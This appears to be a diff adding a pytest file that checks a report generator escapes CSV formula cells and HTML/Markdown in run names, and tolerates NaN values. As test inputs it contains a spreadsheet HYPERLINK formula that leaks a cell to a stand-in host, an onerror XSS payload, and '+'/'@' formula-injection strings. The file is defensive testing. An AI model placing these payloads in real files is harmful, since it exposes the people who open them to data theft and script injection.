@@ -1,0 +1,58 @@
+"""Names and values from runs are data in every report file: no formula in a CSV cell, no HTML or
+Markdown in a .md table, and a NaN in a prediction row is shown, not a crash."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+from report_helpers import clue, level1_tasks, write_run
+
+# Folder names: anything but "/".
+FORMULA = '=HYPERLINK("https:evil.invalid?leak="&A1,"click")'
+HTML = "<img src=x onerror=alert(1)>*bold* [link](https:evil.invalid) | cell"
+
+
+def cells(path: Path) -> list[str]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def test_names_are_data_in_csv_and_markdown(tmp_path):
+    formula_run = write_run(tmp_path / FORMULA, "org/base-model", level1_tasks(40, n=60))
+    html_run = write_run(tmp_path / HTML, "+SUM(1,2)", level1_tasks(30, n=60))
+    pairs = tmp_path / "pairs.toml"
+    pairs.write_text(f'[[pair]]\nbiomedical = {json.dumps(HTML)}\nbase = {json.dumps(FORMULA)}\nnote = "@cmd"\n')
+    out = tmp_path / "report"
+    proc = clue("report", str(formula_run), str(html_run), "--pairs", str(pairs), "--out", str(out), "--resamples", "200")
+    assert proc.returncode == 0, proc.stderr
+
+    for name in ("leaderboard.csv", "pairs.csv", "diagnostics.csv"):
+        values = cells(out / name)
+        assert "'" + FORMULA in values, name
+        assert FORMULA not in values, name
+        assert not [v for v in values if v[:1] in ("=", "+", "@", "\t", "\r")], name
+    assert "'+SUM(1,2)" in cells(out / "leaderboard.csv")
+    assert "'@cmd" in cells(out / "pairs.csv")
+    # Numbers stay numbers: a negative delta is not quoted.
+    assert any(v.startswith("-") and v[1:2].isdigit() for v in cells(out / "pairs.csv"))
+
+    for name in ("leaderboard.md", "diagnostics.md", "pairs.md"):
+        text = (out / name).read_text(encoding="utf-8")
+        assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text, name
+        assert "\\*bold\\*" in text and "\\[link\\](https:evil.invalid)" in text and "\\| cell" in text, name
+
+
+def test_a_nan_in_a_prediction_row_is_shown_not_a_crash(tmp_path):
+    run = write_run(tmp_path / "run", "org/model", {"meqsum": {"rouge1": [0.5, 0.25, 0.75]}})
+    rows = [json.loads(line) for line in (run / "predictions" / "meqsum.jsonl").read_text().splitlines()]
+    rows[1]["metrics"]["rouge1"] = float("nan")
+    rows[2]["output"] = float("nan")
+    (run / "predictions" / "meqsum.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))  # writes NaN
+    out = tmp_path / "report"
+    proc = clue("report", str(run), "--out", str(out), "--show-items")
+    assert proc.returncode == 0, proc.stderr
+    assert "Traceback" not in proc.stderr
+    page = (out / "report.html").read_text(encoding="utf-8")
+    assert '"rouge1":"NaN"' in page.replace(" ", "")
